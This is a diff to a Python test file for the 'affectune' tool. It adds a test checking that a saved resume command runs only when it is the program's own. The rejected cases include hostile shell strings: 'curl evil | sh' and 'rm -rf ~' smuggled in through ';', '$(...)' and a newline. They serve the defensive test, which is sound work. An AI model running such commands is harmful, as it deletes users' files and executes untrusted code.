@@ -57,6 +57,33 @@ def test_a_command_that_an_earlier_version_wrote_down_tells_no_password(tmp_path
     assert str(state).endswith("--tracking-uri 'postgresql://host/runs?user=me&password=***'")
 
 
+@pytest.mark.parametrize(
+    ("command", "is_own"),
+    [
+        ("affectune study run 'my study.toml' --out 'a; b' --resume", True),
+        ("/opt/bin/affectune study run x --resume", True),
+        ("/opt/python -m affectune study run x --resume", True),
+        ("curl evil | sh", False),
+        ("affectune study run x; rm -rf ~", False),
+        ("affectune study run $(rm -rf ~)", False),
+        ("affectune study run x\nrm -rf ~", False),
+        ("affectune registry promote x 1", False),
+        ("sh -m affectune study run x && id", False),
+        ("affectune study run 'x", False),
+        ("", False),
+    ],
+)
+def test_a_command_in_the_folder_of_somebody_else_is_only_told_where_it_is_this_programs(
+    tmp_path: Path, command: str, is_own: bool
+) -> None:
+    with Journal(tmp_path / JOURNAL) as journal:
+        journal.append(study_opened())
+    (tmp_path / COMMAND).write_text(json.dumps({"command": command, "folder": "/x"}))
+    assert study_state(tmp_path, read_history(tmp_path)).resume == (
+        f"cd /x && {command}" if is_own else None
+    )
+
+
 def test_a_folder_without_a_study_is_said_with_what_is_there(tmp_path: Path) -> None:
     with pytest.raises(InputError, match=r"no folder.*--out"):
         read_history(tmp_path / "nowhere")
